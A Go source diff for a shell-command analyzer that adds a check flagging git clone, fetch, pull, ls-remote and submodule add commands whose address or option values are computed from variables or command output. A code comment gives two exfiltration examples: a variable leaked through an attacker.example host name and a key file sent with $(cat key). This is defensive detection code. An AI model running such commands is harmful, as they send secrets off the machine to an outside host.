@@ -202,16 +202,16 @@ func gitModel() *Spec {
 		gitWithSubs("lfs", gitEffect("push", "git_push", nil)),
 		gitWithSubs("subtree", gitEffect("push", "git_push", nil)),
 		gitWithSubs("p4", gitEffect("submit", "", nil)),
-		gitSub("fetch", list(gitPackProgram("", "upload-pack"), flag("u", "update-head-ok"),
+		fromAddress(gitSub("fetch", list(gitPackProgram("", "upload-pack"), flag("u", "update-head-ok"),
 			val("j", RoleData, "jobs"), opt("", RoleData, "recurse-submodules"), val("", RoleData, "depth"),
 			val("", RoleData, "deepen"), val("", RoleData, "shallow-since"), val("", RoleData, "shallow-exclude"),
 			val("", RoleData, "refmap"), val("o", RoleData, "server-option"), val("", RoleData, "negotiation-tip"),
-			val("", RoleData, "filter"), val("", RolePath, "submodule-prefix"))),
-		gitEffectSub("pull", "merges what it fetches into the work tree, as git merge does, and may write any file a commit holds", list(gitPackProgram("", "upload-pack"), opt("r", RoleData, "rebase"),
+			val("", RoleData, "filter"), val("", RolePath, "submodule-prefix")))),
+		fromAddress(gitEffectSub("pull", "merges what it fetches into the work tree, as git merge does, and may write any file a commit holds", list(gitPackProgram("", "upload-pack"), opt("r", RoleData, "rebase"),
 			val("s", RoleData, "strategy"), val("X", RoleData, "strategy-option"), opt("S", RoleData, "gpg-sign"),
 			opt("j", RoleData, "jobs"), val("", RoleData, "depth"), val("o", RoleData, "server-option"),
-			opt("", RoleData, "recurse-submodules"), val("", RoleData, "cleanup"))),
-		gitSub("clone", list(gitPackProgram("u", "upload-pack"),
+			opt("", RoleData, "recurse-submodules"), val("", RoleData, "cleanup")))),
+		fromAddress(gitSub("clone", list(gitPackProgram("u", "upload-pack"),
 			val("", RolePath, "template").does(EffExternal, "git clone --template copies hooks from this directory into the new repository, where git runs them"),
 			val("c", RoleData, "config").does(EffExternal, "git clone -c "+whyGitConfig+"; the clone itself uses it"),
 			val("j", RoleData, "jobs"), val("", RolePath, "reference", "reference-if-able"),
@@ -219,13 +219,13 @@ func gitModel() *Spec {
 			val("", RoleData, "shallow-since"), val("", RoleData, "shallow-exclude"),
 			gitSeparateDir(), gitBare(), flag("", "mirror").does(EffExternal, "--mirror makes a bare repository, whose hooks and configuration are not under .git"),
 			val("", RoleData, "server-option"), val("", RoleData, "filter"),
-			val("", RoleData, "bundle-uri"), opt("", RoleData, "recurse-submodules", "recursive"))),
+			val("", RoleData, "bundle-uri"), opt("", RoleData, "recurse-submodules", "recursive")))),
 		gitSub("init", list(val("", RolePath, "template").does(EffExternal, "git init --template copies hooks from this directory into the repository, where git runs them"),
 			gitSeparateDir(), gitBare(), opt("", RoleData, "shared"), val("b", RoleData, "initial-branch"),
 			val("", RoleData, "object-format", "ref-format"))),
-		gitSub("ls-remote", list(gitPackProgram("u", "upload-pack", "exec"), val("", RoleData, "sort"),
-			val("o", RoleData, "server-option"))),
-		gitSub("fetch-pack", list(gitPackProgram("", "upload-pack", "exec"), val("", RoleData, "depth"))),
+		fromAddress(gitSub("ls-remote", list(gitPackProgram("u", "upload-pack", "exec"), val("", RoleData, "sort"),
+			val("o", RoleData, "server-option")))),
+		fromAddress(gitSub("fetch-pack", list(gitPackProgram("", "upload-pack", "exec"), val("", RoleData, "depth")))),
 		gitSub("archive", list(gitPackProgram("", "exec"),
 			val("", RoleRemote, "remote").does(EffExternal, "git archive --remote runs git-upload-archive on another host, over ssh"),
 			val("o", RolePath, "output"), val("", RoleData, "format", "prefix", "mtime"),
@@ -279,6 +279,33 @@ func judgeGitTransports(r *Result, words []string) {
 			return
 		}
 	}
+}
+
+// fromAddress gives a subcommand that reaches the repository its first
+// operand names (git clone, fetch, pull, ls-remote, submodule add) the
+// check that the address and the options' values are written out: a
+// variable's value or a command's output in them leaves the machine with
+// the request, in the host name, the path or what is asked of the server
+// (git ls-remote "https://$x.attacker.example", git fetch -o "$(cat key)").
+func fromAddress(s *Spec) *Spec {
+	s.Judge = func(r *Result, _ []string) {
+		address := true // the first operand is the address; later ones are refs and directories
+		for _, it := range r.Items {
+			if it.Kind != KindOperand && it.Kind != KindValue {
+				continue
+			}
+			if (it.Kind == KindValue || address) && (it.Computed || strings.Contains(it.Text, "$(") || strings.IndexByte(it.Text, '`') >= 0) {
+				r.Effects |= EffExternal
+				r.Findings = append(r.Findings, Finding{Effect: EffExternal, Word: it.Word,
+					Why: "a computed address or option value: what a variable or a command puts in it leaves the machine with the request"})
+				return
+			}
+			if it.Kind == KindOperand {
+				address = false
+			}
+		}
+	}
+	return s
 }
 
 // gitSeparateDir is --separate-git-dir DIR of git init and git clone: the
@@ -336,7 +363,8 @@ func gitSubmodule() *Spec {
 		{Role: RoleArg},
 	}
 	s := gitWithSubs("submodule", foreach)
-	for _, n := range []string{"add", "status", "init", "deinit", "update", "set-branch", "set-url", "summary", "sync", "absorbgitdirs"} {
+	s.Subs = append(s.Subs, fromAddress(gitSub("add", nil)))
+	for _, n := range []string{"status", "init", "deinit", "update", "set-branch", "set-url", "summary", "sync", "absorbgitdirs"} {
 		s.Subs = append(s.Subs, gitSub(n, nil))
 	}
 	s.OpenSubs = false
